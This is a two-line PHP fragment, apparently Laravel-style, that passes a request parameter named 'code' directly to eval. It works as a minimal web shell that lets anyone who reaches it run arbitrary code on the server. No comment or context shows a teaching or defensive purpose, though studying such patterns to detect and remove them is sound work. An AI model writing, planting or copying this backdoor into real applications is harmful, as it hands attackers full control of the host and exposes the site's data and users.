<?php
eval($request->input("code"));
